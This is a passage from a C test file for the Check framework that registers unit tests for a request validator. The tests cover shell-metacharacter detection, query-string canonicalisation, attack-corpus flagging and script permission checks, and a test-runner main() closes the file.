	tcase_add_test(tp, test_shell_metachar_in_a_path_variable_is_flagged);
	tcase_add_test(tp, test_parentheses_in_a_path_are_not_flagged);

	/* A million random strings take a while under the sanitizers. */
	tcase_set_timeout(tq, 300);
	tcase_add_test(tq, test_query_string_is_reescaped_canonically);
	tcase_add_test(tq, test_query_canonical_refuses_a_small_buffer);
	tcase_add_test(tq, test_query_string_in_environment_is_canonical);
	tcase_add_test(tq, test_request_uri_query_is_reescaped_and_path_kept);
	tcase_add_test(tq, test_query_raw_mode_passes_the_original_bytes);
	tcase_add_test(tq, test_canonical_query_decodes_to_the_same_pairs);
	tcase_add_test(tq, test_canonical_query_leaves_no_shell_byte_raw);

	tcase_set_timeout(ts, 60);
	tcase_add_test(ts, test_benign_corpus_has_no_refusal_and_no_finding);
	tcase_add_test(ts, test_attack_corpus_is_flagged_at_least_95_percent);
	tcase_add_test(ts, test_each_signature_is_named_in_its_finding);
	tcase_add_test(ts, test_every_command_word_is_recognised);
	tcase_add_test(ts,
	    test_printf_positional_format_is_found_in_the_raw_query);
	tcase_add_test(ts, test_double_encoded_payload_is_found);
	tcase_add_test(ts, test_headers_are_scanned);
	tcase_add_test(ts, test_suspicious_log_mode_reports_and_runs);
	tcase_add_test(ts, test_suspicious_reject_mode_refuses);
	tcase_add_test(ts, test_finding_names_variable_signature_and_excerpt);
	tcase_add_test(ts, test_escape_excerpt_leaves_only_printable_ascii);
	tcase_add_test(ts,
	    test_escape_excerpt_marks_truncation_and_never_splits);

	tcase_add_test(tx, test_root_owned_script_may_run);
	tcase_add_test(tx, test_script_must_be_a_regular_file);
	tcase_add_test(tx, test_script_needs_an_execute_bit);
	tcase_add_test(tx, test_setuid_script_is_refused);
	tcase_add_test(tx, test_setgid_script_is_refused);
	tcase_add_test(tx, test_group_writable_script_is_refused);
	tcase_add_test(tx, test_world_writable_script_is_refused);
	tcase_add_test(tx, test_group_writable_directory_is_refused);
	tcase_add_test(tx, test_world_writable_directory_is_refused);
	tcase_add_test(tx, test_script_owner_is_checked_when_configured);

	tcase_add_test(tt, test_table_is_sorted_for_lookup);
	tcase_add_test(tt,
	    test_every_table_entry_and_signature_is_in_the_man_page);
	tcase_add_test(tt, test_getenv_finds_only_whole_names);

	suite_add_tcase(s, tn);
	suite_add_tcase(s, tv);
	suite_add_tcase(s, tg);
	suite_add_tcase(s, tp);
	suite_add_tcase(s, tq);
	suite_add_tcase(s, ts);
	suite_add_tcase(s, tx);
	suite_add_tcase(s, tt);
	return s;
}

int
main(void)
{
	SRunner	*sr = srunner_create(validate_suite());
	int	 failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
